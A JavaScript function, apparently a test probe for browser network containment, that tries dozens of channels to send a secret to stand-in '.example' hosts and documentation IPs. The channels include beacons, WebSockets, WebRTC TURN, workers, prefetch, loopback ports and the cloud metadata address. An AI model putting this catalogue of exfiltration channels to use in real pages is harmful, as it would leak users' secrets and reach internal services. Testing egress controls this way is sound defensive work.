// Every way that a page has of reaching somebody, each to a host of its own: `w-<name>-<phase>.example`.
// Answers when each has been tried.
async (phase, secret) => {
  const told = encodeURIComponent(secret || 'nothing');
  const host = (name) => `w-${name}-${phase}.example`;
  const url = (name, scheme = 'https') => `${scheme}://${host(name)}/?${told}`;
  const add = (tag, attributes, parent = document.body) => {
    const element = document.createElement(tag);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    parent.append(element);
    return element;
  };
  const quietly = (it) => Promise.resolve(it).catch(() => 0);
  const patience = (it, ms = 2500) => Promise.race([quietly(it), new Promise((done) => setTimeout(done, ms))]);
  const socket = (address) => patience(new Promise((done) => { const s = new WebSocket(address); s.onopen = s.onerror = done; }));
  const worker = (source) => URL.createObjectURL(new Blob([source], { type: 'text/javascript' }));
  const framed = (html, sandbox) => {
    const frame = document.createElement('iframe');
    if (sandbox) frame.sandbox = sandbox;
    frame.srcdoc = html;
    document.body.append(frame);
  };
  const peer = (server) => patience(new Promise((done) => {
    const peer = new RTCPeerConnection({ iceServers: [server] });
    peer.createDataChannel('x');
    peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && done();
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  }));
  const turn = (name, query) => ({ urls: `turn:${host(name)}:3478${query}`, username: told.slice(0, 60), credential: told });
  const style = (text) => add('style', {}, document.head).append(text);
  const ways = {
    image: () => { new Image().src = url('image'); },
    plainimage: () => { new Image().src = url('plainimage', 'http'); },
    script: () => add('script', { src: url('script') }),
    module: () => import(url('module')),
    style: () => add('link', { rel: 'stylesheet', href: url('style') }, document.head),
    imported: () => style(`@import url(${url('imported')});`),
    background: () => style(`body { background: url(${url('background')}) }`),
    font: () => { style(`@font-face { font-family: f; src: url(${url('font')}) } b { font-family: f }`); add('b', {}).append('x'); },
    preload: () => add('link', { rel: 'preload', as: 'image', href: url('preload') }, document.head),
    prefetch: () => add('link', { rel: 'prefetch', href: url('prefetch') }, document.head),
    preconnect: () => add('link', { rel: 'preconnect', href: url('preconnect') }, document.head),
    dnsprefetch: () => add('link', { rel: 'dns-prefetch', href: `//${host('dnsprefetch')}` }, document.head),
    modulepreload: () => add('link', { rel: 'modulepreload', href: url('modulepreload') }, document.head),
    icon: () => add('link', { rel: 'icon', href: url('icon') }, document.head),
    manifest: () => add('link', { rel: 'manifest', href: url('manifest') }, document.head),
    speculation: () => add('script', { type: 'speculationrules' }, document.head).append(
      JSON.stringify({ prerender: [{ urls: [url('speculation')], eagerness: 'immediate' }], prefetch: [{ urls: [url('speculation')], eagerness: 'immediate' }] })),
    frame: () => add('iframe', { src: url('frame') }),
    object: () => add('object', { data: url('object') }),
    embed: () => add('embed', { src: url('embed') }),
    video: () => add('video', { src: url('video'), preload: 'auto' }),
    audio: () => add('audio', { src: url('audio'), preload: 'auto' }),
    svg: () => { document.body.insertAdjacentHTML('beforeend', `<svg><image href="${url('svg')}"/></svg>`); },
    fetch: () => fetch(url('fetch'), { mode: 'no-cors' }),
    post: () => fetch(url('post'), { mode: 'no-cors', method: 'POST', body: told }),
    keepalive: () => fetch(url('keepalive'), { mode: 'no-cors', method: 'POST', body: told, keepalive: true }),
    later: () => window.fetchLater && fetchLater(url('later'), { activateAfter: 0 }),
    beacon: () => navigator.sendBeacon(url('beacon'), told),
    xhr: () => { const x = new XMLHttpRequest(); x.open('POST', url('xhr')); x.send(told); },
    events: () => { new EventSource(url('events')); },
    ping: () => { add('a', { href: '#', ping: url('ping') }).click(); },
    download: () => { add('iframe', { name: 'download-frame' }); add('a', { href: url('download'), download: 'x', target: 'download-frame' }).click(); },
    form: () => { add('iframe', { name: 'form-frame' }); add('form', { action: url('form'), method: 'post', target: 'form-frame' }).submit(); },
    popup: () => { window.open(url('popup'), '_blank', 'noopener'); },
    wss: () => socket(url('wss', 'wss')),
    ws: () => socket(url('ws', 'ws')),
    wsport: () => socket(`ws://${host('wsport')}:443/?${told}`),
    sandbox: () => framed(`<script>new WebSocket("${url('sandbox', 'wss')}"); fetch("${url('sandbox')}", {mode: "no-cors"})</script>`, 'allow-scripts'),
    worker: () => { new Worker(worker(`fetch("${url('worker')}", {mode: "no-cors"}); new WebSocket("${url('workersocket', 'wss')}")`)); },
    shared: () => { new SharedWorker(worker(`fetch("${url('shared')}", {mode: "no-cors"}); new WebSocket("${url('sharedsocket', 'wss')}")`)); },
    service: () => navigator.serviceWorker.register('/service.js'),
    transport: () => { const t = new WebTransport(`https://${host('transport')}:443/`); return patience(t.ready); },
    stun: () => peer({ urls: `stun:${host('stun')}:3478` }),
    stunaddress: () => peer({ urls: 'stun:198.51.100.9:3478' }),
    turn: () => peer(turn('turn', '')),
    turntcp: () => peer(turn('turntcp', '?transport=tcp')),
    turntls: () => peer({ ...turn('turntls', ''), urls: `turns:${host('turntls')}:443?transport=tcp` }),
    fedcm: () => patience(navigator.credentials.get({ identity: { providers: [{ configURL: `https://${host('fedcm')}/fedcm.json?${told}`, clientId: told, nonce: told }] } })),
    webauthn: () => patience(navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: host('webauthn'), timeout: 1000 } })),
    payment: () => patience(new PaymentRequest([{ supportedMethods: `https://${host('payment')}/pay` }], { total: { label: 'x', amount: { currency: 'JPY', value: '1' } } }).canMakePayment()),
    address: () => fetch(`https://198.51.100.8/?${told}`, { mode: 'no-cors' }),
    address6: () => fetch(`https://[2001:db8::8]/?${told}`, { mode: 'no-cors' }),
    loopback: () => Promise.all(['127.0.0.1', 'localhost', '[::1]', '0.0.0.0', '127.9.9.9'].map((it) => quietly(fetch(`https://${it}:9443/?${told}`, { mode: 'no-cors' })))),
    loopbacksocket: () => Promise.all([socket(`ws://localhost:9081/?${told}`), socket(`ws://127.0.0.1:9082/?${told}`)]),
    linklocal: () => fetch('http://169.254.169.254/?' + told, { mode: 'no-cors' }),
    otherport: () => fetch(`https://${location.hostname}:8443/?${told}`, { mode: 'no-cors' }),
    ownsocket: () => socket(`ws://${location.hostname}/?${told}`),
    owncleartls: () => socket(`ws://${location.hostname}:443/?${told}`),
    lookalike: () => fetch(`https://${location.hostname}.w-lookalike-${phase}.example/?${told}`, { mode: 'no-cors' }),
    dotted: () => fetch(`https://${location.hostname}./?${told}`, { mode: 'no-cors' }),
    captcha: () => add('iframe', { src: `https://www.google.com/recaptcha/api2/anchor?${told}` }),
    redirect: () => fetch('/elsewhere?' + phase, { mode: 'no-cors' }),
  };
  await Promise.all(Object.values(ways).map((way) => { try { return patience(way()); } catch { return 0; } }));
  return Object.keys(ways).length;
}
